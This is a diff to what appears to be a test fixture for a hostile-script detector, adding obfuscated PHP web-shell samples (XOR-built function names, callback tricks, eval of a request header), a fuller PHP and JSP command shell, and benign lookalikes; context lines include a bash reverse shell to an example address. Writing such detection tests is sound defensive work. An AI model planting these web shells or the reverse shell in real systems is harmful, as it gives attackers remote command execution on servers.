@@ -6,6 +6,12 @@ type Text = readonly [ScriptLanguage, string]
 
 const HOST = 'https://files.example'
 
+const REMOTE_CONTROL = `<?php $cmd = escapeshellcmd($_POST["c"]);
+if ($how == 1) system("ls"); if ($how == 2) passthru("ls"); if ($how == 3) shell_exec("ls");
+$d = opendir("."); while ($f = readdir($d)) echo $f;
+move_uploaded_file($_FILES["f"]["tmp_name"], "x"); chmod("x", 0644); unlink("y");
+echo php_uname(); mysql_connect("localhost", "a", "b"); $s = fsockopen("localhost", 80); echo ini_get("safe_mode"); ?>`
+
 export const ACTS: CaseTable<Text> = {
   script_opens_reverse_shell: {
     hits: { 'a shell over a socket of bash': ['shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] },
@@ -74,10 +80,45 @@ export const ACTS: CaseTable<Text> = {
     hits: {
       'PHP that evaluates a parameter': ['php', '<?php @eval($_POST["x"]); ?>'],
       'PHP that starts a parameter': ['php', '<?php system($_GET["cmd"]); ?>'],
+      'a name that is cut together': ['php', '<?php $f = substr_replace("sysxx", "tem", 3); $f($_POST["q"]); ?>'],
+      'a name under XOR': ['php', '<?php $f = (",&,"^"___") . "tem"; $f($_GET["q"]); ?>'],
+      'a name in a table': ['php', '<?php $list["k"] = "passthru"; $all[] = $list; $all[0]["k"]($_POST["q"]); ?>'],
+      'a callback that the request names': ['php', '<?php $f = $_REQUEST["f"]; uasort($_POST["list"], $f); ?>'],
+      'a callback that compares': ['php', '<?php array_udiff_assoc(array($_GET["q"]), array(1), "assert"); ?>'],
+      'a header as code': ['php', '<?php eval(getenv("HTTP_X_TOKEN")); ?>'],
+      'an element of a name of a name': ['php', `<?php $n = "_GET"; $${'{'}$n}["f"]($${'{'}$n}["q"]); ?>`],
+      'PHP that offers everything': ['php', REMOTE_CONTROL],
+      'a page of Java that offers everything': [
+        'javascript',
+        `<%@ page import="java.io.*" %><% String c = request.getParameter("c");
+Process p = Runtime.getRuntime().exec(new String[] { "x" });
+for (File f : new File(request.getParameter("d")).listFiles()) { out.print(f); }
+new FileOutputStream(request.getParameter("t")); new File("t").delete();
+out.print(System.getProperty("os.name")); %>`,
+      ],
     },
     misses: {
       'PHP that shows a parameter': ['php', '<?php echo htmlspecialchars($_GET["name"]); ?>'],
       'PHP that starts a program': ['php', '<?php system("uptime"); ?>'],
+      'a callback that is named outright': ['php', '<?php $ids = array_map("intval", $_POST["ids"]); ?>'],
+      'a closure over what was sent': [
+        'php',
+        '<?php $v = $_POST["v"]; array_map(function ($x) { return $x; }, $v); ?>',
+      ],
+      'a callback out of a list': ['php', '<?php call_user_func($actions[$_GET["do"]]); ?>'],
+      'a name out of a list': ['php', '<?php $f = $handlers["save"]; $f($_POST["q"]); ?>'],
+      'two numbers under XOR': ['php', '<?php $n = $a ^ $b; echo $n; ?>'],
+      'a callback of the page': ['php', '<?php usort($_POST["list"], "by_name"); ?>'],
+      'a header that is shown': ['php', '<?php echo htmlspecialchars(getenv("HTTP_HOST")); ?>'],
+      'a page of Java that lists a folder': [
+        'javascript',
+        '<%@ page import="java.io.*" %><% String d = request.getParameter("d"); for (File f : new File("/srv").listFiles()) out.print(f); %>',
+      ],
+      'a method of an object': ['php', '<?php $form->validate($_POST["name"]); ?>'],
+      'a file manager that runs nothing': [
+        'php',
+        REMOTE_CONTROL.replace(/(?:system|passthru|shell_exec)\([^)]*\);/g, ''),
+      ],
     },
   },
   script_disables_defences: {
